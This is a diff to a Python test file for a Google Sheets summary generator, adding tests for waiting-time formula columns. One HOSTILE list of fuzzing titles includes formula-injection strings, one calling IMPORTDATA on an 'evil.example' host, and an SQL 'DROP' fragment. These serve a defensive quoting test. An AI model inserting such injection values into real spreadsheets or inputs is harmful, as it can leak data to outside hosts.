@@ -18,14 +18,17 @@ from connector.emulators.google.schema import discovery, read_body, read_mask
 from connector.interview import STAGE_WORDS
 from sinks.google_sheets.api_replies import OBJECTS_FIELDS, SpreadsheetObjects
 from sinks.google_sheets.api_requests import column_letters
-from sinks.google_sheets.formatting import IdAllocator, Source, format_tab, formatting_body, summarize
+from sinks.google_sheets.format_requests import IdAllocator
+from sinks.google_sheets.formatting import format_tab, formatting_body
 from sinks.google_sheets.sheet_view import TabView
+from sinks.google_sheets.summary import WAITING_TAG, Source, summarize
 from sinks.google_sheets.tabs import Layout
 from sinks.spreadsheet.columns import KEY, SPECS
 
 GET = discovery().method("spreadsheets.get")
 WRITE = discovery().method("spreadsheets.batchUpdate")
 WIDTH = 14
+WAITING = ["To evaluate: average days", "To evaluate: longest, days"]
 HOSTILE = ["=1+1", "*", "~", "'); DROP", '"&IMPORTDATA("https://evil.example")&"', "O'Brien", "@x", "Summary", "!A1:B2"]
 REFERENCE = re.compile(r"'(?:[^']|'')*'!\$?[A-Z]+(?::\$?[A-Z]+|\$\d+)")
 titles = st.one_of(st.sampled_from(HOSTILE), st.text("ab'!\"$;&=(", min_size=1, max_size=8))
@@ -98,7 +101,7 @@ def test_any_tabs_are_dressed_at_once_and_no_id_is_used_twice(places, names, per
     harness.format_new_tabs(*range(1, len(names) + 1), per_position=per_position)
     numbers = harness.numbers()
     assert len(set(numbers)) == len(numbers)
-    assert min(numbers[1:]) > 0
+    assert sorted(numbers)[1] > 0
     assert harness.book.titled("People's").objects == {}
 
 
@@ -158,7 +161,8 @@ def _formulas_of(tab):
 def test_whole_columns_are_counted_wherever_they_stand(places, title):
     harness = SheetHarness(places, title)
     harness.format_new_tabs(1)
-    summary = harness.book.tabs[-1].title
+    assert [tab.title for tab in harness.book.tabs][::2] == [title, "People's"]
+    summary = harness.book.tabs[1].title
     quoted = "'" + title.replace("'", "''") + "'"
     letters = {name: column_letters(place) for name, place in places.items()}
     for formula in formulas(harness, summary)[: len(STAGE_WORDS)]:
@@ -170,13 +174,44 @@ def test_the_header_of_the_summary_has_the_words_that_are_counted():
     harness = SheetHarness(USUAL, "Interviews")
     harness.format_new_tabs(1)
     header, totals, positions = harness.cells("Summary")
-    assert header == ["Position", *STAGE_WORDS.values(), "All"]
+    assert header == ["Position", *STAGE_WORDS.values(), "All", *WAITING]
     assert totals[0] == "All positions"
     assert totals[1] == "=COUNTIFS('Interviews'!E:E;B$1;'Interviews'!L:L;\"?*\";'Interviews'!L:L;" + _other(
         "Interviews"
     )
     assert positions[0].startswith("=IFERROR(SORT(UNIQUE(FILTER('Interviews'!D:D;")
     assert len(positions) == len(header)
+
+
+def test_waiting_times_are_those_of_interviews_to_evaluate_per_position_and_in_total():
+    harness = SheetHarness(USUAL, "Interviews")
+    harness.format_new_tabs(1)
+    _, totals, positions = harness.cells("Summary")
+    chosen = "'Interviews'!E:E;C$1;'Interviews'!H:H;\">0\""
+    assert totals[-2] == f"=IF(COUNTIFS({chosen})=0;\"\";NOW()-AVERAGEIFS('Interviews'!H:H;{chosen}))"
+    assert totals[-1] == f"=IF(COUNTIFS({chosen})=0;\"\";NOW()-MINIFS('Interviews'!H:H;{chosen}))"
+    for formula in positions[-2:]:
+        assert formula.startswith('=MAP($A3:$A;LAMBDA(position;IF(position="";"";IF(COUNTIFS(\'Interviews\'!D:D;"="&')
+        assert chosen in formula
+
+
+def test_waiting_times_of_all_tabs_together_weigh_each_by_its_interviews():
+    harness = SheetHarness(USUAL, "Sales", "Legal")
+    harness.format_new_tabs(1, 2, per_position=True)
+    _, totals, sales, _ = harness.cells("Summary")
+    assert totals[-2] == '=IF(SUM(C3:C)=0;"";SUMPRODUCT(C3:C;H3:H)/SUM(C3:C))'
+    assert totals[-1] == '=IF(COUNT(I3:I)=0;"";MAX(I3:I))'
+    assert "NOW()-MINIFS('Sales'!H:H;" in sales[-1]
+
+
+def test_a_summary_of_an_earlier_release_gets_no_waiting_times_without_a_header():
+    harness = SheetHarness(USUAL, "Sales", "Legal")
+    harness.format_new_tabs(1, per_position=True)
+    [tag] = [tag for tag in harness.book.tags.values() if tag.key == WAITING_TAG]
+    del harness.book.tags[tag.id]
+    harness.format_new_tabs(2, per_position=True)
+    _, _, sales, legal = harness.cells("Summary")
+    assert (len(sales), len(legal)) == (9, 7)
 
 
 def _other(title):
@@ -205,7 +240,7 @@ def test_a_summary_that_people_deleted_stays_deleted():
     harness.format_new_tabs(1, per_position=True)
     harness.book.delete_tab(harness.book.titled("Summary"))
     harness.format_new_tabs(2, per_position=True)
-    assert [tab.title for tab in harness.book.tabs] == ["People's", "Sales", "Legal"]
+    assert [tab.title for tab in harness.book.tabs] == ["Sales", "People's", "Legal"]
 
 
 def test_a_summary_that_people_renamed_goes_on():
@@ -220,7 +255,8 @@ def test_a_title_in_use_gets_a_number():
     harness = SheetHarness(USUAL, "Interviews", "More", "SUMMARY")
     harness.format_new_tabs(1)
     harness.format_new_tabs(2)
-    assert [tab.title for tab in harness.book.tabs][-2:] == ["Summary (2)", "Summary (3)"]
+    titles = [tab.title for tab in harness.book.tabs]
+    assert [title for title in titles if title.startswith("Summary (")] == ["Summary (3)", "Summary (2)"]
 
 
 def test_without_a_stage_there_is_nothing_to_count_and_to_colour():
@@ -228,8 +264,10 @@ def test_without_a_stage_there_is_nothing_to_count_and_to_colour():
     [(view, layout)] = SheetHarness(places, "One").snapshot(1)
     objects = SpreadsheetObjects(properties=None)
     assert summarize([Source(view, layout)], objects, IdAllocator(objects), per_position=False) == []
-    kinds = {kind for request in format_tab(view, layout, IdAllocator(objects)) for kind in request}
-    assert kinds.isdisjoint({"addConditionalFormatRule", "addFilterView"})
+    requests = format_tab(view, layout, IdAllocator(objects))
+    assert "addConditionalFormatRule" not in {kind for request in requests for kind in request}
+    views = [request["addFilterView"]["filter"]["title"] for request in requests if "addFilterView" in request]
+    assert views == ["Newest first"]
 
 
 @pytest.mark.parametrize(("place", "frozen"), [(0, 1), (2, 3), (3, 0), (None, 0)])
@@ -264,4 +302,4 @@ def test_looks_begin_at_the_header_wherever_that_is():
     assert '"frozenRowCount":4' in texts
     assert "'One'!L$4" in texts
     starts = [each["repeatCell"]["range"]["startRowIndex"] for each in wanted if "repeatCell" in each]
-    assert set(starts[:-1]) == {3, 4}
+    assert set(starts[:-2]) == {3, 4}
